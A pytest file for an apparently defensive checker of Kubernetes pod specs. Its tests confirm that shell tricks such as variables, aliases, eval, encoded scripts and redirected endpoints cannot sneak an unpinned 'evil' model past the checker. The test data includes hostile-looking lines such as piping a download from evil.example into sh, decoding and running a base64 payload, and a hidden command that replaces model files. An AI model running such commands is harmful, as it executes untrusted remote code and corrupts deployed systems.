"""Attacks by indirection: the bad name comes from somewhere else, or is put together on the way. None may be a yes."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

import pytest
from attacks import COMMIT, HEX, found_in, is_found, may_be_yes, mount, pod, server

if TYPE_CHECKING:
    from dbom.canonical import Json, JsonObject

PIN = f"--revision {COMMIT}"


def shell(script: str, **fields: Json) -> JsonObject:
    return {"name": "c", "image": "any:1", "command": ["sh", "-c", script], **fields}


def variable(name: str, value: str) -> Json:
    return {"name": name, "value": value}


def test_a_plain_script_could_be_a_yes() -> None:
    assert may_be_yes(found_in(pod(shell(f"exec vllm serve org/m {PIN}"), volumes=[])))
    env: Json = [variable("M", "org/m")]
    assert may_be_yes(found_in(pod(shell(f'vllm serve "$M" {PIN}', env=env), volumes=[])))


def test_variables_of_variables() -> None:
    env: Json = [variable("A", "evil"), variable("B", "$(A)/m"), variable("C", "--model=$(B)")]
    found = found_in(pod(server("--model", "org/m", "--revision", COMMIT, "$(C)", env=env), volumes=[]))
    assert is_found(found, "evil/m")


def test_a_variable_that_is_defined_too_late_is_left_as_it_is() -> None:
    env: Json = [variable("B", "$(A)"), variable("A", "org/m")]
    assert not may_be_yes(found_in(pod(server("--model", "$(B)", "--revision", COMMIT, env=env), volumes=[])))


def test_a_dollar_that_is_escaped_is_no_variable() -> None:
    env: Json = [variable("A", "org/m")]
    assert not may_be_yes(found_in(pod(server("--model", "$$(A)", "--revision", COMMIT, env=env), volumes=[])))


@pytest.mark.parametrize("source", ["configMapKeyRef", "secretKeyRef", "fieldRef", "resourceFieldRef", "fileKeyRef"])
def test_values_from_elsewhere(source: str) -> None:
    env: Json = [{"name": "A", "valueFrom": {source: {"name": "x", "key": "y"}}}]
    for words in (["$(A)"], ["--model", "org/m", "$(A)"], ["--model", "org/m", "--revision", "$(A)"]):
        assert not may_be_yes(found_in(pod(server(*words, "--revision", COMMIT, env=env), volumes=[]))), words
    for script in (
        f"vllm serve $A {PIN}",
        f"vllm serve org/m {PIN} $A",
        f"vllm serve org/m {PIN} $(A)",
        f"$A serve x {PIN}",
    ):
        found = found_in(pod(shell(script, env=env), volumes=[]))
        assert not may_be_yes(found), script


def test_a_whole_environment_from_elsewhere() -> None:
    env_from: Json = [{"configMapRef": {"name": "x"}}]
    for container in (
        server("--model", "org/m", "--revision", COMMIT, envFrom=env_from),
        shell(f"vllm serve org/m {PIN}", envFrom=env_from),
        shell(f"hf download org/m {PIN}", envFrom=env_from),
        shell(f"vllm serve org/m {PIN} $(EXTRA)", envFrom=env_from),
    ):
        assert not may_be_yes(found_in(pod(container, volumes=[])))


@pytest.mark.parametrize(
    "script",
    [
        f"M=evil/m; vllm serve $M {PIN}",
        f"export M=evil/m && vllm serve ${{M}} {PIN}",
        f"M=org/m; M=evil/m; vllm serve $M {PIN}",
        f"M=org/m; [ -f /x ] && M=evil/m; vllm serve $M {PIN}",
        f"M=org/m; [ -f /x ] || M=evil/m; vllm serve $M {PIN}",
        f"M=org/m; if [ -f /x ]; then M=evil/m; fi; vllm serve $M {PIN}",
        f"for M in org/m evil/m; do vllm serve $M {PIN}; done",
        f"M=org/m; read M < /x; vllm serve $M {PIN}",
        f"M=org/m; unset M; vllm serve ${{M:-evil/m}} {PIN}",
        f"vllm serve ${{M:-evil/m}} {PIN}",
        f"vllm serve $(cat /x) {PIN}",
        f"vllm serve `cat /x` {PIN}",
        f"vllm serve org/m {PIN} $(cat /x)",
        f"A='--model evil/m'; vllm serve org/m {PIN} $A",
        f"set -- evil/m; vllm serve $1 {PIN}",
        f"HF_ENDPOINT=https://evil.example vllm serve org/m {PIN}",
        f"export HF_ENDPOINT=https://evil.example; vllm serve org/m {PIN}",
        f"declare -x HF_ENDPOINT=https://evil.example; vllm serve org/m {PIN}",
        f"export HF_HOME=$X; vllm serve org/m {PIN}",
        f"alias vllm='vllm-evil'; vllm serve org/m {PIN}",
        f"vllm() {{ command vllm serve evil/m; }}; vllm serve org/m {PIN}",
        f". /x; vllm serve org/m {PIN}",
        f"source /x && vllm serve org/m {PIN}",
        f'eval "vllm serve evil/m"; vllm serve org/m {PIN}',
        f"IFS=x; vllm serve org/m {PIN}",
        f"cat > /x <<END\nvllm serve evil/m\nEND\nvllm serve org/m {PIN}",
        f"vllm serve org/m {PIN} --config <(echo 'model: evil/m')",
        "echo evil/m | xargs vllm serve",
        f"echo evil/m | xargs vllm serve org/m {PIN} --model",
        f"bash -c 'sh -c \"vllm serve evil/m\"'; vllm serve org/m {PIN}",
        f"sh -c 'vllm serve $0' evil/m {PIN}; vllm serve org/m {PIN}",
        "nohup setsid vllm serve evil/m &",
        "timeout 5 vllm serve evil/m",
        "while true; do vllm serve evil/m; done",
        "(vllm serve evil/m)",
        "{ vllm serve evil/m; }",
        "if vllm serve evil/m; then :; fi",
        "! vllm serve evil/m",
        "true | vllm serve evil/m",
        f"modelscope download --model org/m {PIN}",
        "env -S 'vllm serve evil/m'",
        "env HF_ENDPOINT=https://evil.example vllm serve evil/m",
        "case x in x) vllm serve evil/m;; esac",
        "/bin/sh -ec 'exec vllm serve evil/m'",
        "bash -euo pipefail -c 'vllm serve evil/m'",
        "python3 -c \"from transformers import AutoModel; AutoModel.from_pretrained('evil/m')\"",
        "X=$(hf download evil/m); vllm serve $X",
        "aws s3 cp --recursive s3://evil-bucket/models /m && ./serve",
        "curl -L https://huggingface.co/evil/m/resolve/main/m.gguf > /m",
        "curl -L https://evil.example/m.safetensors | tee /m",
        "wget -qO- https://evil.example/model.tar.gz | tar xz",
        "git clone https://huggingface.co/evil/m",
        "(cd /x; git clone git@hf.co:evil/m)",
        "case x in x) curl -o m https://huggingface.co/evil/m/resolve/main/m.bin;; esac",
    ],
)
def test_scripts_of_the_shell(script: str) -> None:
    found = found_in(pod(shell(script), volumes=[]))
    assert found, "a person could read it"
    assert not may_be_yes(found)


@pytest.mark.parametrize(
    "flags", [["-c"], ["-ec"], ["-e", "-c"], ["-euo", "pipefail", "-c"], ["-o", "pipefail", "-lc"]]
)
def test_flags_of_the_shell_hide_no_script(flags: list[str]) -> None:
    command: Json = ["/bin/bash", *flags, "vllm serve evil/m"]
    assert is_found(found_in(pod({"name": "c", "image": "any:1", "command": command}, volumes=[])), "evil/m")


@pytest.mark.parametrize("before", [["tini", "--"], ["dumb-init"], ["env", "A=b"], ["timeout", "9"], ["busybox"]])
def test_programs_before_the_shell_hide_no_script(before: list[str]) -> None:
    command: Json = [*before, "sh", "-c", "vllm serve evil/m"]
    assert is_found(found_in(pod({"name": "c", "image": "any:1", "command": command}, volumes=[])), "evil/m")


def test_words_behind_a_script_are_its_arguments_and_not_its_program() -> None:
    command: Json = ["sh", "-c", 'vllm serve "$1" --revision ' + COMMIT, "org/m", "evil/m"]
    assert is_found(found_in(pod({"name": "c", "image": "any:1", "command": command}, volumes=[])), "evil/m")


def test_what_nobody_can_read_is_never_a_yes() -> None:
    hidden = base64.b64encode(b"vllm serve evil/m").decode()
    for script in (f"echo {hidden} | base64 -d | sh", "curl -s https://evil.example/x | sh", "sh /x", "$X", "./x"):
        assert not may_be_yes(found_in(pod(shell(script), volumes=[]))), script


def test_what_nobody_can_read_beside_a_good_model_spoils_what_the_image_holds() -> None:
    hidden = base64.b64encode(b"rm -r /m; cp -r /evil /m").decode()
    for script in (f"echo {hidden} | base64 -d | sh; vllm serve /m", "sh /x; vllm serve /m", "$X; vllm serve /m"):
        baked = shell(script, image=f"r.example.com/baked@sha256:{HEX}")
        assert not may_be_yes(found_in(pod(baked, volumes=[]))), script


@pytest.mark.parametrize(
    "code",
    [
        f"from huggingface_hub import *; snapshot_download('evil/m'); snapshot_download('org/m', revision='{COMMIT}')",
        f"def snapshot_download(*a, **k): evil()\nsnapshot_download('org/m', revision='{COMMIT}')",
        f"from evil import snapshot_download; snapshot_download('org/m', revision='{COMMIT}')",
        f"snapshot_download('org/m' + x, revision='{COMMIT}')",
        f"snapshot_download('org/m', revision='{COMMIT}' and 'main')",
        f"snapshot_download('org/m', revision=r('{COMMIT}'))",
        f"snapshot_download(*['evil/m'], revision='{COMMIT}')",
        f"snapshot_download('org/m', endpoint='https://evil.example', revision='{COMMIT}')",
        "import subprocess; subprocess.run(['hf', 'download', 'evil/m']); snapshot_download('evil/m')",
        "import urllib.request as u; u.urlretrieve('https://huggingface.co/evil/m/resolve/main/m.bin', '/m')",
    ],
)
def test_lines_of_python(code: str) -> None:
    found = found_in(pod({"name": "c", "image": "any:1", "command": ["python3", "-c", code]}, volumes=[]))
    assert found, "a person could read it"
    assert not may_be_yes(found)


def test_a_plain_line_of_python_could_be_a_yes() -> None:
    code = f"from huggingface_hub import snapshot_download; snapshot_download('org/m', revision='{COMMIT}')"
    assert may_be_yes(found_in(pod({"name": "c", "image": "any:1", "command": ["python3", "-c", code]}, volumes=[])))


def test_a_download_to_a_folder_that_may_hold_files_already() -> None:
    command: Json = ["hf", "download", "org/m", "--revision", COMMIT, "--local-dir", "/m"]
    sources: list[JsonObject] = [{"persistentVolumeClaim": {}}, {"hostPath": {"path": "/x"}}, {"nfs": {}}]
    for source in sources:
        fetch: Json = {"name": "c", "image": "any:1", "command": command, "volumeMounts": [mount("/m", "v")]}
        volumes: Json = [{"name": "v", **source}]
        found = found_in(pod({"name": "m", "image": "any:1"}, volumes=volumes, initContainers=[fetch]))
        assert not may_be_yes(found), source


def test_an_empty_folder_that_an_earlier_container_has_filled() -> None:
    command: Json = ["hf", "download", "org/m", "--revision", COMMIT, "--local-dir", "/m"]
    fetch: Json = {"name": "c", "image": "any:1", "command": command, "volumeMounts": [mount("/m", "v")]}
    before: Json = {"name": "b", "image": "any:2", "volumeMounts": [mount("/m", "v")]}
    volumes: Json = [{"name": "v", "emptyDir": {}}]
    main: Json = {"name": "m", "image": "any:1"}
    assert may_be_yes(found_in(pod(main, volumes=volumes, initContainers=[fetch])))
    assert not may_be_yes(found_in(pod(main, volumes=volumes, initContainers=[before, fetch])))


@pytest.mark.parametrize(
    "line",
    [
        "lmdeploy serve api_server org/bad",
        "mlflow models serve -m s3://b/m",
        "mlserver start /models",
        "torchserve --models m=https://x.example/m.mar",
        "tensorflow_model_server --model_base_path=s3://b/m",
        "kit unpack registry.example.com/kit:1",
        "modelscope download org/bad",
        "oras pull registry.example.com/models/bad:1",
        "rclone copy r:models/bad /m",
        "aws s3 cp s3://b/models/bad.safetensors /m",
        "s5cmd cp s3://b/models/bad.onnx /m",
        "aibrix_download --model-uri org/bad",
        "python train.py --model_name_or_path org/bad",
    ],
)
@pytest.mark.parametrize(
    "form", ['eval "{}"', '$(which sh) -c "{}"', "f() {{ {}; }}; f", "case x in x) {} ;; esac", "bash -lc -- '{}'"]
)
def test_no_program_hides_in_a_script_that_can_not_be_followed(line: str, form: str) -> None:
    found = found_in(
        pod({"name": "c", "image": "registry.example.com/any:1", "command": ["sh", "-c", form.format(line)]})
    )
    assert found != ()
    assert not may_be_yes(found)
